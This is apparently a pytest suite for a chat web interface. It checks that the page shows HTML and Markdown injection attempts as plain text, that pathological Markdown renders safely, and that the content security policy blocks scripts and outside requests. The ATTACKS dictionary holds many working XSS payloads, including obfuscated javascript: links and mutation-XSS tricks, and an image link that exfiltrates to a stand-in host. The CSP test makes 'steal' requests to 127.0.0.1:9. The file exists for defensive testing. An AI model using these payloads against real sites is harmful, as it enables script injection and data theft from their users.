"""Text that attacks the page, from the model and from the user: it is shown, and nothing else happens."""

from __future__ import annotations

import json

import pytest

from tests.browser.pages import Browser, Page

ATTACKS = {
    "script": "<script>window.hacked = 1; alert(1)</script>",
    "script in a line": "Look: <script src='http://127.0.0.1:9/x.js'></script> here",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror='window.hacked = 1; alert(1)'>",
    "onerror after a line": "text\n\n<img src=x onerror=alert(1)//>\n\ntext",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "frame": "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "style": "<style>body { display: none }</style><link rel=stylesheet href='http://127.0.0.1:9/x.css'>",
    "base": "<base href='http://127.0.0.1:9/'><meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "form": "<form action='http://127.0.0.1:9/'><input name=a autofocus onfocus=alert(1)><button>go</button></form>",
    "clobbering": "<a id=message></a><form id=composer><input name=attributes></form>",
    "javascript link": "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](java&#115;cript:alert(1))",
    "javascript with a tab": "[click](<java\tscript:alert(1)>) [click](&#x01;javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)> [x]\n\n[x]: javascript:alert(1)",
    "data link": "[click](data:text/html,<script>alert(1)</script>) [click](vbscript:x) [click](file:///etc/passwd)",
    "blob link": "[click](blob:http://127.0.0.1/x) [click](/v1/models) [click](//127.0.0.1:9/x) [click](#message)",
    "attribute in a link": '[click](https://example.org/"onmouseover="alert(1))',
    "attribute in a title": '[click](https://example.org "t\\" onclick=alert(1) x=\\"")',
    "picture": '![secret](http://127.0.0.1:9/steal?secret) ![x](javascript:alert(1)) !["onerror="alert(1)](x)',
    "language of code": '```"><img/src/onerror=alert(1)>\ncode\n```\n\n```js onload=alert(1)\ncode\n```',
    "class of the page": "<p class='fault failed'>The key was refused</p><div class=code-head>x</div>",
    "table": "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <svg onload=alert(1)> | <i>x |",
    "thought": "<think><img src=x onerror=alert(1)><script>alert(1)</script></think><b>x</b>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment": "<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?php x ?>",
    "escapes": "\u202e\u0000\u001b]0;title\u0007 \u2028 <\u0000script>alert(1)</script>",
}
"""Answers of a model."""
BAD = ", ".join(
    f"#messages {name}"
    for name in (
        *("script", "img", "iframe", "object", "embed", "style", "link", "base", "meta", "form", "input", "template"),
        *(
            "math",
            "video",
            "audio",
            "article article",
            "[onerror]",
            "[onload]",
            "[onclick]",
            "[onmouseover]",
            "[style]",
        ),
        *(".body [id]", ".body [name]", ".body .fault", ".body svg"),
    )
)


def is_harmless(page: Page) -> None:
    """Checks that nothing of a text has become more than text, and follows each link."""
    assert page.count(BAD) == 0
    links = page.evaluate("[...document.querySelectorAll('.body a')].map(each => [each.href, each.target, each.rel])")
    assert all(href.startswith(("https://example.org", "http://127.0.0.1:9/")) or not href for href, *_ in links), links
    assert all("noopener" in rel and target == "_blank" for href, target, rel in links if href)
    page.evaluate("document.querySelectorAll('.body a').forEach(each => each.href || each.click())")
    page.evaluate(
        "document.querySelectorAll('#messages *').forEach(each => ['mouseover', 'focus', 'error', 'load']"
        ".forEach(name => each.dispatchEvent(new Event(name))))"
    )
    assert page.evaluate("window.hacked") is None
    seen = page.do("seen")
    assert (seen["dialogs"], page.do("numPages")) == ([], 1)
    assert not [url for url in seen["requests"] if ":9/" in url]
    assert page.evaluate("getComputedStyle(document.body).display") == "block"
    assert page.evaluate("document.querySelector('#message').tagName") == "TEXTAREA"


def test_attacks_in_an_answer_do_nothing(page: Page) -> None:
    for name, attack in ATTACKS.items():
        page.ask(f"say {attack}")
        assert page.text("#messages > li:last-child"), name
        is_harmless(page)
    page.do("reload")  # as the browser has kept them
    page.wait("#messages > li:last-child .body")
    is_harmless(page)


def test_tags_are_shown_as_text(page: Page) -> None:
    assert page.ask(f"say {ATTACKS['script']}") == ATTACKS["script"]
    assert page.ask("say a<br>b <b>c</b>") == "a\nb <b>c</b>"
    page.ask("say ![a picture](https://example.org/a.png)")
    assert (
        page.evaluate("document.querySelector('#messages > li:last-child .body a').href") == "https://example.org/a.png"
    )


def test_attacks_of_the_user_do_nothing(page: Page) -> None:
    attacks = "\n".join(ATTACKS.values())
    page.ask(attacks)
    is_harmless(page)
    page.click("#open-settings")
    page.fill("#set-system", attacks)
    page.click("#settings button[type=submit]")
    page.ask(ATTACKS["onerror"])
    page.click("#new-chat")
    page.ask(ATTACKS["onerror"])  # a title too
    assert page.count("#side img, header img, #page script") == 0
    is_harmless(page)


HARD = {
    "emphasis": "*a_" * 20_000,
    "quotations": "> " * 5_000 + "x",
    "lists": "- " * 3_000 + "x",
    "brackets": "[" * 50_000,
    "code": "`" * 30_000 + "a",
    "table": "|a" * 10_000 + "\n" + "|-" * 10_000,
    "length": "a *b* " * 50_000,
}
"""Texts that a reader of Markdown takes long for, or none of whose nesting fits on its stack."""


@pytest.mark.parametrize("name", HARD)
def test_a_text_that_is_hard_to_read_is_shown_as_it_is(page: Page, name: str) -> None:
    page.evaluate(f"window.text = {json.dumps(HARD[name])}")
    shown, emphasized = page.evaluate(
        """(async () => {
        const { MarkdownView } = await import("/ui/markdown.js");
        const place = document.createElement("div");
        new MarkdownView(place).show(window.text);
        return [place.textContent.length, place.querySelectorAll("em").length];
        })()"""
    )
    assert shown > 0
    assert emphasized == 0


def test_the_browser_would_refuse_what_the_page_does_not(browser: Browser, address: str) -> None:
    page = browser.open(address)
    page.wait("#message")
    refused = page.evaluate(
        """(async () => {
        const refused = [];
        document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
        const attempt = (action) => { try { action(); } catch (error) { refused.push(error.name); } };
        attempt(() => { document.querySelector("#welcome").innerHTML = "<img src=x onerror='window.hacked = 1'>"; });
        // later, as a debugger's own script may call eval
        setTimeout(() => attempt(() => { window.eval("window.hacked = 1"); }));
        attempt(() => { document.createElement("script").src = "/ui/theme.js"; });
        const button = document.createElement("button");
        document.body.append(button);
        attempt(() => { button.setAttribute("onclick", "window.hacked = 1"); });
        button.click();
        attempt(() => { new Image().src = "http://127.0.0.1:9/steal"; });
        await fetch("http://127.0.0.1:9/steal").catch((error) => refused.push("fetch"));
        await new Promise((resolve) => setTimeout(resolve, 300));
        return refused;
        })()"""
    )
    assert page.evaluate("window.hacked") is None
    assert refused.count("TypeError") >= 3
    assert {"EvalError", "img-src", "connect-src", "fetch"} <= set(refused)
    page.close()
